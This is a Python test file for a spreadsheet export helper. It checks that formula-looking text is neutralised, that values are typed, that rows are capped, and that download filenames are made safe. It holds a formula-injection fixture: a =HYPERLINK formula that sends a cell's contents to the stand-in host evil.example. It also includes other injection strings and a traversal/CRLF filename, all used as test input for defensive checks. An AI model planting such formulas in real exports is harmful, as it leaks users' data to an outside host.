"""The one export helper: text never becomes a formula or a link; values are typed.

Security standard (formula injection, issue 10 §4); R-ORG-04 (login log export)."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

from postaward.core.exports import (
    Column,
    attachment_disposition,
    build_workbook,
    export_xlsx,
    neutralise,
    safe_filename,
)
from postaward.testing_xlsx import has_hyperlinks, read_cells

EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"请点击核对")'


def _by_ref(data: bytes) -> dict[str, object]:
    return {c.ref: c for c in read_cells(data)}


def test_formula_looking_text_is_text_with_apostrophe() -> None:
    data = build_workbook(
        title="登录日志",
        columns=["账号", "说明", "其他", "网址"],
        rows=[
            [EVIL, "+1", "-2+3", "http://evil.example/"],
            ["@SUM(A1)", "\t=1", "\r=1", "正常文字"],
            ["=1+1", "a=b", "", None],
        ],
    )
    cells = read_cells(data)
    assert not any(c.formula for c in cells)
    assert not has_hyperlinks(data)
    texts = {c.ref: c.text for c in cells}
    assert texts["A3"] == "'" + EVIL
    assert texts["B3"] == "'+1"
    assert texts["C3"] == "'-2+3"
    assert texts["D3"] == "http://evil.example/"
    assert texts["A4"] == "'@SUM(A1)"
    assert texts["B4"] == "'\t=1"
    assert texts["C4"] == "'_x000D_=1"  # OOXML's escape of a carriage return
    assert texts["A5"] == "'=1+1"
    assert texts["B5"] == "a=b"


def test_title_and_headings_are_neutralised_too() -> None:
    cells = _by_ref(build_workbook(title="=1+1", columns=["=A1", "b"], rows=[]))
    assert cells["A1"].text == "'=1+1"  # type: ignore[attr-defined]
    assert cells["A2"].text == "'=A1"  # type: ignore[attr-defined]


def test_values_are_typed_and_datetimes_local() -> None:
    at = dt.datetime(2026, 3, 1, 16, 30, tzinfo=dt.UTC)  # 00:30 next day in Beijing
    data = build_workbook(
        title="t",
        columns=[
            "数",
            Column("金额", kind="money"),
            "日期",
            "时间",
            "是否",
            Column("比例", kind="percent"),
        ],
        rows=[[3, Decimal("1234.50"), dt.date(2026, 3, 2), at, True, 0.25]],
        totals=["合计", Decimal("1234.50")],
    )
    cells = _by_ref(data)
    assert cells["A3"].type == "n" and cells["A3"].text == "3"  # type: ignore[attr-defined]
    assert cells["B3"].type == "n" and float(cells["B3"].text) == 1234.5  # type: ignore[attr-defined]
    # Excel serial dates: 2026-03-02 is 46083; 2026-03-02 00:30 local is 46083.0208...
    assert cells["C3"].type == "n" and cells["C3"].text == "46083"  # type: ignore[attr-defined]
    assert cells["D3"].type == "n"  # type: ignore[attr-defined]
    assert abs(float(cells["D3"].text) - (46083 + 0.5 / 24)) < 1e-6  # type: ignore[attr-defined]
    assert cells["E3"].text == "是"  # type: ignore[attr-defined]
    assert cells["A4"].text == "合计"  # type: ignore[attr-defined]
    assert float(cells["B4"].text) == 1234.5  # type: ignore[attr-defined]
    assert float(cells["F3"].text) == 0.25  # type: ignore[attr-defined]


def test_rows_are_capped_with_a_note(monkeypatch) -> None:
    from postaward.core import exports

    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
    cells = read_cells(build_workbook(title="t", columns=["a"], rows=([i] for i in range(10))))
    texts = [c.text for c in cells]
    assert texts[-1] == "仅导出前 3 行，请缩小筛选范围"
    assert len(texts) == 2 + 3 + 1


def test_response_is_an_attachment_with_a_safe_chinese_name() -> None:
    response = export_xlsx(
        filename='../a"b/登录日志\r\n.xlsx', title="登录日志", columns=["a"], rows=[["x"]]
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    cd = response["Content-Disposition"]
    assert cd.startswith("attachment; ")
    assert "\r" not in cd and "\n" not in cd and "/" not in cd.split("filename*=")[0]
    assert "filename*=UTF-8''" in cd
    assert response["X-Content-Type-Options"] == "nosniff"
    assert safe_filename("项目.xlsx") == "项目.xlsx"
    assert safe_filename("") == "导出.xlsx"
    assert "%E9%A1%B9%E7%9B%AE.xlsx" in attachment_disposition("项目.xlsx")
    assert 'filename="export.xlsx"' in attachment_disposition("项目.xlsx")
    assert neutralise("正常") == "正常"
